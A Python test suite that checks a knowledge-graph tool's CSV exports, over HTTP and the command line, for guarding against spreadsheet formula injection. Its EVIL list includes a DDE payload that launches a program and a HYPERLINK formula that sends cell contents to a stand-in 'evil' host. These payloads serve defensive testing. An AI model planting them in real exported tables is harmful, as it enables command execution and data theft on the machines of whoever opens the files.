"""Every table that people open: whatever documents and names say, no cell of it is a formula."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from typing import TYPE_CHECKING

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from serving import GRAPH, ID, publish_nquads, serving

from kg.cells import guarded_csv
from kg.store import turtle_as_nquads

if TYPE_CHECKING:
    from pathlib import Path

EVIL = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "  =1", "＝1+1", '=HYPERLINK("http://evil/?"&A1,"x")']
_cells = st.text(st.characters(exclude_characters="\0\r\n", exclude_categories=["Cs"]), max_size=12)


def formulas(table: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(table.decode(), newline=""))
    cells = [cell for row in rows for cell in row]
    return [
        one
        for one in cells
        if one.lstrip()[:1] in set("=+@-＝＋－＠") and not one.lstrip("+-").replace(".", "").isdigit() and one
    ]


@given(st.lists(st.lists(_cells | st.sampled_from(EVIL), min_size=1, max_size=5), max_size=5))
def test_cells_are_guarded_and_nothing_else_is_changed(rows: list[list[str]]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written, lineterminator="\r\n").writerows(rows)
    guarded = guarded_csv(written.getvalue().encode())
    assert formulas(guarded) == []
    back = list(csv.reader(io.StringIO(guarded.decode(), newline="")))
    assert [[cell.removeprefix("'") for cell in row] for row in back if row] == [
        [cell.removeprefix("'") for cell in row] for row in rows if row != [""] or row in back
    ]


def test_a_long_cell_stays_whole() -> None:
    assert guarded_csv(b"a\r\n=" + b"x" * 1_000_000 + b"\r\n") == b"a\r\n'=" + b"x" * 1_000_000 + b"\r\n"


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A graph in which every name, quote and title begins as a formula does."""
    place = tmp_path_factory.mktemp("evil")
    turtle = tmp_path_factory.mktemp("turtle") / "evil.ttl"
    text = GRAPH.read_text(encoding="utf-8")
    for number, sign in enumerate(("skos:prefLabel ", "dct:title ", "oa:exact ", "hpp:task ")):
        text = text.replace(f'{sign}"', f'{sign}"{EVIL[number].replace(chr(34), "")}')
    turtle.write_text(text, encoding="utf-8")
    publish_nquads(place, turtle_as_nquads(turtle, ID + "document/a"))
    return place


LISTS = ["issues", "bodies", "provinces", "people", "meetings", "documents", "coverage"]
NETWORKS = ["bodies", "body-issue", "bodies?measure=load", "findings/1", "findings/2", "matrix"]


def test_no_table_over_http_has_a_formula(evil: Path) -> None:
    with serving(evil) as address, httpx.Client(base_url=address, timeout=60) as client:
        names = [one["name"] for one in client.get("/queries").json()["queries"] if not _required(one)]
        paths = [f"/{name}" for name in LISTS] + [f"/network/{one}" for one in NETWORKS]
        paths += [f"/queries/{name}" for name in names] + [f"/queries/{name}?limit=5" for name in names]
        paths += ["/queries/owner?issue=PM2.5", "/queries/owner?issue=PM2.5&limit=2"]
        filled = 0
        for path in paths:
            answer = client.get(path, params=httpx.QueryParams(path.partition("?")[2]).set("format", "csv"))
            assert answer.status_code in {200, 400, 404}, (path, answer.text)
            if answer.status_code == 200:
                assert answer.headers["content-length"] == str(len(answer.content))
                assert formulas(answer.content) == [], path
                filled += b"'=" in answer.content or b"'+" in answer.content
        assert filled >= 4


def _required(query: dict[str, list[dict[str, bool]]]) -> bool:
    return any(one["required"] for one in query["parameters"])


@pytest.mark.parametrize(
    "command",
    [["export", "--format", "csv"], ["network", "bodies", "--format", "csv"],
     ["query", "SELECT ?l { ?s <http://www.w3.org/2004/02/skos/core#prefLabel> ?l }", "--format", "csv"]],
)  # fmt: skip
def test_no_table_of_the_command_line_has_a_formula(evil: Path, command: list[str]) -> None:
    run = [sys.executable, "-m", "kg.cli", *command, "--store", str(evil)]
    done = subprocess.run(run, check=True, capture_output=True, timeout=60)
    assert formulas(done.stdout) == []
    assert b"'=" in done.stdout or b"'+" in done.stdout or b"'-" in done.stdout
